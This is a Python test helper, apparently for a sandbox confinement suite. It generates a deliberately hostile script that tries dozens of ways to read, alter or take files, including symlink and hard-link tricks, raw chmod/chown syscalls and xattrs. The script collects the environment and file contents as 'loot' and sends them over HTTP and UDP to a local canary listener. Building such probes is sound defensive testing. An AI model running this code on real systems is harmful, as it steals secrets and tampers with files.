"""A program that does what its author wants, as far as it is let; needs no package."""

import json
from pathlib import Path

SOURCE = """
import ctypes, errno, json, os, socket, sys
ORDERS = json.loads(%(orders)r)
PORT, UDP = %(ports)r
libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def opened(path, flags=os.O_RDONLY):
    return os.open(path, flags)


def own(name):
    return os.path.join(os.environ.get("TMPDIR", "/tmp"), name)


def linked(path):
    place = own("link-%%d" %% os.getpid())
    os.symlink(path, place)
    return place


def hard(path):
    place = own("hard-%%d" %% os.getpid())
    os.link(path, place)
    return place


def listed(path):
    place = os.environ.get("HOME", "/") if path == "HOME" else path
    return [os.path.join(folder, name) for folder, _, names in os.walk(place) for name in names]


def read(path):
    return open(path, "rb").read(4000).hex()


def contents(path):
    return {name: read(name) for name in listed(path)[:50]}


def write(path):
    with open(path, "a") as file:
        file.write("x")


def make(path):
    with open(path + ".new", "x"):
        pass


MEANS = {
    "read": read,
    "read through link": lambda path: read(linked(path)),
    "read through folder": lambda path: os.read(os.open(os.path.basename(path), os.O_RDONLY,
        dir_fd=os.open(os.path.dirname(path), os.O_RDONLY)), 4000).hex(),
    "list": listed,
    "contents": contents,
    "write": write,
    "make": make,
    "make folder": lambda path: os.mkdir(path + ".folder"),
    "unlink": os.unlink,
    "rename": lambda path: os.rename(path, path + ".moved"),
    "take": lambda path: os.rename(path, own("taken")),
    "link": lambda path: os.link(path, path + ".link"),
    "hard": lambda path: write(hard(path)),
    "truncate": lambda path: os.truncate(path, 0),
    "empty": lambda path: opened(path, os.O_RDONLY | os.O_TRUNC),
    "chmod": lambda path: os.chmod(path, 0o777),
    "chmod link": lambda path: os.chmod(linked(path), 0o777),
    "fchmod": lambda path: os.fchmod(opened(path), 0o777),
    "fchmod of folder": lambda path: os.fchmod(opened(os.path.dirname(path)), 0o777),
    "fchmod of path": lambda path: os.chmod("/proc/self/fd/%%d" %% opened(path, os.O_PATH), 0o777),
    "fchmodat2": lambda path: call(452, opened(path), b"", 0o777, 0x1000),
    "fchmodat": lambda path: call(268, -100, path.encode(), 0o777),
    "chown": lambda path: os.chown(path, -1, os.getgid()),
    "fchown": lambda path: os.fchown(opened(path), -1, os.getgid()),
    "lchown": lambda path: os.lchown(path, -1, os.getgid()),
    "setxattr": lambda path: os.setxattr(path, "user.evil", b"1"),
    "fsetxattr": lambda path: os.setxattr(opened(path), "user.evil", b"1"),
    "lsetxattr": lambda path: os.setxattr(path, "user.evil", b"1", follow_symlinks=False),
    "utime": lambda path: os.utime(path, (1, 1)),
    "futimens": lambda path: os.utime(opened(path), (1, 1)),
    "utimes": lambda path: call(235, path.encode(), None),
    "flags": lambda path: __import__("fcntl").ioctl(opened(path), 0x40086602, b"\\x80" + bytes(7)),
}


def main():
    loot = {"argv": sys.argv, "env": dict(os.environ), "cwd": os.getcwd()}
    for means, path in ORDERS:
        try:
            done = MEANS[means](os.path.expanduser(path))
            loot[means + " " + path] = "done" if done is None else done
        except Exception as exc:
            loot[means + " " + path] = type(exc).__name__
    text = json.dumps(loot, default=str).encode(errors="replace")
    head = b"POST /ran HTTP/1.0\\r\\nContent-Length: %%d\\r\\n\\r\\n" %% len(text)
    try:
        with socket.create_connection(("127.0.0.1", PORT), 5) as line:
            line.sendall(head + text)
            line.recv(100)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"ran " + text[:9000], ("127.0.0.1", UDP))
    except OSError:
        pass
    facts = {name: loot[name] for name in loot if name not in ("argv", "env", "cwd")}
    sys.stderr.write("RAN " + json.dumps(facts, default=str)[:6000] + "\\n")
    sys.stderr.flush()
    try:
        %(mark)s
    except OSError:
        pass
    sys.exit(3)


main()
"""
MEANS = (
    "chmod", "chmod link", "fchmod", "fchmod of folder", "fchmod of path", "fchmodat2", "fchmodat",
    "chown", "fchown", "lchown", "setxattr", "fsetxattr", "lsetxattr", "utime", "futimens",
    "utimes", "flags", "write", "make", "make folder", "unlink", "rename", "take", "link", "hard",
    "truncate", "empty",
)  # fmt: skip
"""Ways to change something of a file."""
READING = ("read", "read through link", "read through folder")


def hostile_code(machine, orders=(), *, mark="program"):
    """Python code that follows orders: pairs of a way and a path."""
    touched = f"open({str(machine.marks / mark)!r}, 'w').close()"
    return SOURCE % {
        "orders": json.dumps([*orders]),
        "ports": (machine.canary.port, machine.canary.udp_port),
        "mark": touched,
    }


def hostile_script(machine, orders=(), **more):
    """The same as a program file."""
    return f"#!{machine.python} -IS\n{hostile_code(machine, orders, **more)}"


def put_script(path: Path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return path
